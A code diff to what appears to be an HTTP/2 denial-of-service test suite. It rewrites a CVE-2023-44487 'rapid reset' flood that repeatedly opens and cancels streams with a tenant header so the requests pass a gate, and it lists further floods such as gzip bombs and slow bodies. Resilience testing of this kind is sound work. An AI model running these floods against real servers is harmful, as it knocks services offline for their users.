@@ -73,11 +73,15 @@ def repeated(connection, make):
 # --- floods ---------------------------------------------------------------------------------------------------------
 
 
+TENANT = b"tnt_01H455VB4PEX5VSKNK084SN02Q"
+
+
 def rapid_reset(connection):
-    body = b"\0\0\0\0\x20\x0a\x1etnt_01H455VB4PEX5VSKNK084SN02Q"
+    """CVE-2023-44487, of calls that the gate lets pass."""
+    body = b"\0\0\0\0\x20\x0a\x1e" + TENANT
 
     def one():
-        head = connection.begin()
+        head = connection.begin([("x-tenant-id", TENANT.decode())])
         return head + frame(DATA, END_STREAM, connection.stream, body) + \
             frame(RST, 0, connection.stream, struct.pack(">I", 8))
     return repeated(connection, one)
@@ -212,7 +216,7 @@ def many_fields(connection):
 
 
 # attacks that only who may call the method can make, and those that hold things until a time limit
-BY_ADMIN = ("slow bodies", "gzip bombs", "deep nesting", "many fields", "unread answers")
+BY_ADMIN = ("rapid reset", "slow bodies", "gzip bombs", "deep nesting", "many fields", "unread answers")
 SLOW = ("slow headers", "slow bodies")
 
 ON_A_CONNECTION = {
